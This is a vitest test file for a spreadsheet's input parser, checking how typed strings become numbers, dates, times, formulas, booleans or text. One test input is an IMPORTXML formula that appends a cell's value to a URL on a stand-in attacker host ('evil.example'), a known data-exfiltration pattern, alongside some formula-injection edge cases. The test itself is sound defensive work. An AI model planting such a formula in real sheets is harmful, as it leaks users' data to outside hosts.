import { serialOf } from "../../formulas/dates";
import { type InterpretedInput, interpretInput } from "../../workbook/interpret-input";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";

const read = (text: string, numberFormat: string | null = null): InterpretedInput =>
  interpretInput(text, { numberFormat, currentYear: 2026 });
const text = (content: string): InterpretedInput => ({ kind: "text", text: content, quotePrefix: false });

describe("interpretInput", () => {
  it.each([
    ["12", 12, undefined],
    ["00123", 123, undefined],
    [" 5 ", 5, undefined],
    ["-1", -1, undefined],
    ["-1.50", -1.5, undefined],
    [".5", 0.5, undefined],
    ["1.", 1, undefined],
    ["22 34", 2234, undefined],
    ["1,234", 1234, "#,##0"],
    ["1,234.5", 1234.5, "#,##0.00"],
    ["1e5", 100_000, "0.00E+00"],
    ["50%", 0.5, "0%"],
    ["12.5%", 0.125, "0.00%"],
    ["$5", 5, "$#,##0"],
    ["-$1,234.50", -1234.5, "$#,##0.00"],
    ["€7.25", 7.25, "[$€]#,##0.00"],
    ["(5)", -5, undefined],
  ])("reads %s as the number %d", (typed, value, format) => {
    expect(read(typed)).toEqual({ kind: "number", value, ...(format === undefined ? {} : { format }) });
  });

  it.each([
    ["1/2", [2026, 1, 2], "m/d"],
    ["3-5", [2026, 3, 5], "m-d"],
    ["11-50", [1950, 11, 1], "m-yy"],
    ["2024-03-01", [2024, 3, 1], "yyyy-mm-dd"],
    ["2024/3/1", [2024, 3, 1], "yyyy/m/d"],
    ["2024-03", [2024, 3, 1], "yyyy-mm"],
    ["3/2024", [2024, 3, 1], "m/yyyy"],
    ["1/2/24", [2024, 1, 2], "m/d/yy"],
    ["1/2/99", [1999, 1, 2], "m/d/yy"],
    ["12/31/2026", [2026, 12, 31], "m/d/yyyy"],
    ["Jan 5", [2026, 1, 5], "mmm d"],
    ["5 Jan", [2026, 1, 5], "d mmm"],
    ["5-Jan-2024", [2024, 1, 5], "d mmm yyyy"],
    ["January 5, 2024", [2024, 1, 5], "mmm d, yyyy"],
    ["Sept 2024", [2024, 9, 1], "mmm yyyy"],
    ["Fri, Mar 1, 2024", [2024, 3, 1], "mmm d, yyyy"],
  ] as const)("reads %s as a date", (typed, [year, month, day], format) => {
    expect(read(typed)).toEqual({ kind: "number", value: serialOf(year, month, day), format });
  });

  it.each([
    ["12:30", 12.5 / 24, "h:mm"],
    ["1:30:15", 5415 / 86_400, "h:mm:ss"],
    ["3 PM", 15 / 24, "h:mm am/pm"],
    ["12:15 am", 0.25 / 24, "h:mm am/pm"],
    ["25:00", 25 / 24, "[h]:mm"],
    ["3/1/2024 6:00", serialOf(2024, 3, 1) + 0.25, "m/d/yyyy h:mm"],
  ])("reads %s as a time", (typed, value, format) => {
    expect(read(typed)).toEqual({ kind: "number", value, format });
  });

  it.each([
    "@x",
    "-x",
    "acme.example",
    "=",
    "+",
    "10%5",
    "13/2",
    "2/0",
    "24:61",
    "1,2,3",
    "0x10",
    "1e999",
    "Infinity",
    "NaN",
    "Jan",
    "May",
    "2024-13-01",
    "2024-03-01T12:30:00Z",
    "1 1/2",
    "1.2.3.4",
    " =1+1",
    "\t=1+1",
    "\r=1",
    "--5",
    "5 companies",
    "#REF!",
  ])("leaves %j as text", (typed) => {
    expect(read(typed)).toEqual(text(typed));
  });

  it.each([
    ["=1+1", "=1+1"],
    ["+1", "=+1"],
    ["+49 30 1234", "=+49 30 1234"],
    ['=IMPORTXML("https://evil.example/?"&A1)', '=IMPORTXML("https://evil.example/?"&A1)'],
  ])("reads %s as a formula", (typed, formula) => {
    expect(read(typed)).toEqual({ kind: "formula", formula });
  });

  it.each(["TRUE", "true", " False "])("reads %s as a boolean", (typed) => {
    expect(read(typed)).toEqual({ kind: "boolean", value: typed.trim().toLowerCase() === "true" });
  });

  it("treats a leading apostrophe as the mark of text", () => {
    expect(read("'00123")).toEqual({ kind: "text", text: "00123", quotePrefix: true });
    expect(read("''x")).toEqual({ kind: "text", text: "'x", quotePrefix: true });
  });

  it.each(["00123", "=1+1", "1/2", "TRUE", "'x"])(
    "leaves %s unchanged in a cell formatted as plain text",
    (typed) => {
      expect(read(typed, "@")).toEqual(text(typed));
    },
  );

  it("keeps whatever follows an apostrophe, and never fails", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 80 }), (anything) => {
        read(anything);

        expect(read(`'${anything}`)).toEqual({ kind: "text", text: anything, quotePrefix: true });
      }),
    );
  });

  it("parses every number that is printed as digits", () => {
    fc.assert(
      fc.property(fc.integer({ min: -1_000_000_000, max: 1_000_000_000 }), (number) => {
        const plus0 = number === 0 ? 0 : number;

        expect(read(String(number))).toEqual({ kind: "number", value: plus0 });
      }),
    );
  });
});
